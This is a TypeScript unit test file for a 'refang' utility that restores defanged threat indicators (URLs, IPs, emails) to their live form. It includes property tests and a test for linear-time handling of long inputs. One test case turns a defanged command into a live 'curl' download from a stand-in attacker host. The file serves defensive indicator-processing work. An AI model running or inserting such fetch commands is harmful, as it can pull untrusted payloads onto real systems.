import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { refang } from './refang.js';

describe('refang', () => {
  it.each([
    ['hxxp://evil[.]example/path', 'http://evil.example/path'],
    ['hXXps[:]//evil[.]example', 'https://evil.example'],
    ['h**ps://evil(.)example', 'https://evil.example'],
    ['fxp://files{.}example', 'ftp://files.example'],
    ['evil [dot] example', 'evil.example'],
    ['evil(dot)example[.]org', 'evil.example.org'],
    ['10[.]0[.]0[.]1', '10.0.0.1'],
    ['10.0.0.1[:]8080', '10.0.0.1:8080'],
    ['admin[@]evil[.]example', 'admin@evil.example'],
    ['admin[at]evil(.)example', 'admin@evil.example'],
    ['admin (at) evil [.] example', 'admin@evil.example'],
    ['http://evil.example[/]path', 'http://evil.example/path'],
    ['curl -o x hxxp://evil[.]example/a', 'curl -o x http://evil.example/a'],
  ])('refangs %s', (input, expected) => {
    expect(refang(input)).toBe(expected);
  });

  it('leaves look-alikes that are not defanging alone', () => {
    expect(refang('shxxp://x')).toBe('shxxp://x');
    expect(refang('hxxpfoo')).toBe('hxxpfoo');
    expect(refang('array[0] (x) {y}')).toBe('array[0] (x) {y}');
    expect(refang('plain.example.org')).toBe('plain.example.org');
  });

  it('returns values without defanging marks unchanged', () => {
    fc.assert(
      fc.property(
        fc.string().filter((value) => !/[[({]|h[x*]{2}p|fxp/i.test(value)),
        (value) => refang(value) === value,
      ),
    );
  });

  it('undoes [.] defanging of any dotted name', () => {
    const label = fc.stringMatching(/^[a-z0-9-]{1,12}$/);
    fc.assert(
      fc.property(fc.array(label, { minLength: 2, maxLength: 5 }), (labels) => {
        expect(refang(labels.join('[.]'))).toBe(labels.join('.'));
      }),
    );
  });

  it('stays linear on long runs of spaces and brackets', () => {
    const hostile = `${' '.repeat(200_000)}[${' '.repeat(200_000)}(`;
    expect(refang(hostile)).toBe(hostile);
  });
});
